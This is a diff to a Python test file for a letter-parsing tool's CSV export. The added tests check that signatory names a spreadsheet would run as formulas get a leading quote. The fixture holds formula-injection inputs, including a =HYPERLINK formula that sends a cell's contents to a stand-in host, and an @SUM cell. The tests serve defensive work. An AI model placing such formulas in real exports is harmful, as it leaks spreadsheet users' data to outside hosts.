@@ -1,12 +1,17 @@
-"""CSV export: one row per signatory and member, RFC 4180, UTF-8, optional BOM."""
+"""CSV export: one row per signatory and member, RFC 4180, UTF-8, optional BOM, and no
+cell that a spreadsheet would run as a formula unless asked."""
 
 from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
+
+import pytest
 
 from letterparse import parse, parse_file, to_csv
-from letterparse.export.csv import COLUMNS
+from letterparse.cli import main
+from letterparse.export.csv import COLUMNS, neutralised
 from tests.conftest import LETTERS, REFERENCE
 
 
@@ -65,3 +70,72 @@ def test_bom_only_when_asked() -> None:
     assert to_csv([letter], bom=True).startswith("\ufeffsource_path,")
     assert to_csv([letter]).startswith("source_path,")
     assert to_csv([], bom=True) == "\ufeff" + ",".join(COLUMNS) + "\r\n"
+
+
+HOSTILE = """To the Council
+
+Dear Members,
+
+We write.
+
+Signed by 7 groups.
+
+1. =HYPERLINK("http://x.example/?"&A1,"Click")
+2. +44 Friends
+3. -5 Degrees Network
+4. @SUM(A1:A9)
+5. '=Already Quoted
+6. Alpha Forum; =1+2
+7. Beta Union, Nairobi
+"""
+"""Names a spreadsheet would run, as anyone can sign a public list."""
+
+WRITTEN = [
+    '=HYPERLINK("http://x.example/?"&A1,"Click")',
+    "+44 Friends",
+    "-5 Degrees Network",
+    "@SUM(A1:A9)",
+    "'=Already Quoted",
+    "Alpha Forum; =1+2",
+    "Beta Union, Nairobi",
+]
+
+
+def test_cells_a_spreadsheet_would_run_get_a_quote_in_front() -> None:
+    letter = parse(HOSTILE)
+    assert [s.name for s in letter.signatories] == WRITTEN
+    text = to_csv([letter])
+    assert [row["name"] for row in rows(text)] == [
+        "'" + name if name[0] in "=+-@'" else name for name in WRITTEN
+    ]
+    # a name with a semicolon, the separator of many spreadsheets, is quoted whole
+    assert ',"Alpha Forum; =1+2",' in text
+
+
+def test_raw_cells_are_written_as_they_stand() -> None:
+    table = to_csv([parse(HOSTILE)], raw=True)
+    assert [row["name"] for row in rows(table)] == WRITTEN
+
+
+@pytest.mark.parametrize(
+    "cell", ["=1+2", "+1", "-5", "@x", "\tx", "\rx", "\nx", "'=x", "''+x", "'t Hooft", "x", ""]
+)
+def test_taking_one_quote_off_a_neutralised_cell_gives_it_back(cell: str) -> None:
+    written = neutralised(cell)
+    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
+    back = written[1:] if written != cell else written
+    assert back == cell
+
+
+def test_cli_neutralises_unless_csv_raw(
+    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    letter = tmp_path / "hostile.txt"
+    letter.write_text(HOSTILE, encoding="utf-8")
+    assert main(["parse", str(letter), "--to", "csv"]) == 0
+    assert main(["parse", str(letter), "--to", "csv", "--csv-raw", "-j", "2"]) == 0
+    safe, raw = capsysbinary.readouterr().out.decode().split("source_path,")[1:]
+    assert ",1,\"'=HYPERLINK(" in safe
+    assert ',1,"=HYPERLINK(' in raw
+    assert main(["parse", str(letter), "--csv-raw"]) == 2
+    assert "--csv-raw is for --to csv" in capsysbinary.readouterr().err.decode()
